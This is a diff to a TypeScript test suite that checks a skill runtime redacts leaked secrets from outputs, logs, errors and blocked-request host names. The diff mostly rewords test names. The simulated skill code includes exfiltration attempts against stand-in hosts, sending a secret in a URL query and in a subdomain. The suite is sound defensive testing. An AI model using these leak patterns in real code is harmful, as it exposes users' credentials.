@@ -21,7 +21,7 @@ const manifest = SkillManifest.parse({
 })
 const principal: Principal = { id: 'test', role: 'operator', source: 'main', trust: 'full' }
 
-/** Runs a skill that obtained real secret values through some leak; `behave` is its code. */
+/** Runs a skill that obtained real secret values through a leak; `behave` is the skill's code. */
 async function run(behave: (execution: RuntimeExecution) => Promise<RuntimeOutcome>) {
   const lines: LogLine[] = []
   const ended: ExecutionEnd[] = []
@@ -47,14 +47,14 @@ const returned = (results: Record<string, string>[], message: string): RuntimeOu
 const leakedPart = /r3al|own-value|cjNhbC92|NhbC92YWx/
 
 describe('a leaked secret value', () => {
-  it('does not leave in results or message, in clear or in Base64', async () => {
+  it('does not appear in results or message, as plain text or Base64', async () => {
     const { output, everything } = await run(async () => returned([{ note: leaks, fine: 'NH 177' }], `said ${value}`))
     expect(everything).not.toMatch(leakedPart)
     const expected: Partial<SkillOutput> = { status: 'success', message: 'said [REDACTED...more]' }
     expect(output).toMatchObject({ ...expected, results: [{ fine: 'NH 177' }] })
   })
 
-  it('does not reach log lines or the stored journal', async () => {
+  it('does not appear in log lines or the stored journal', async () => {
     const { everything } = await run(async ({ host }) => {
       await host.call('console.log', { level: 'info', text: leaks }, 1)
       await host.call('fetch', { url: `https://api.example.com/?k=${encodeURIComponent(value)}`, method: 'TRACE' }, 1)
@@ -64,7 +64,7 @@ describe('a leaked secret value', () => {
     expect(everything).toContain('[REDACTED...more]')
   })
 
-  it('does not reach error details, for the log or for the caller', async () => {
+  it('does not appear in error details of the log or the output', async () => {
     const { everything } = await run(async () => ({
       kind: 'failed',
       code: 'SKILL_CRASHED',
@@ -75,7 +75,7 @@ describe('a leaked secret value', () => {
     expect(everything).toContain('[REDACTED...more]')
   })
 
-  it('does not reach an error of the runtime or its causes', async () => {
+  it('does not appear in a logged runtime error or its causes', async () => {
     const { everything, lines } = await run(async () => {
       throw new Error(leaks, { cause: new Error(leaks) })
     })
@@ -85,7 +85,7 @@ describe('a leaked secret value', () => {
     })
   })
 
-  it('does not leave in the host name of a blocked request', async () => {
+  it('does not appear in the logged host name of a blocked request', async () => {
     const { everything } = await run(async ({ host }) => {
       await host.call('fetch', { url: `https://${own}.example/` }, 1)
       return returned([], 'done')
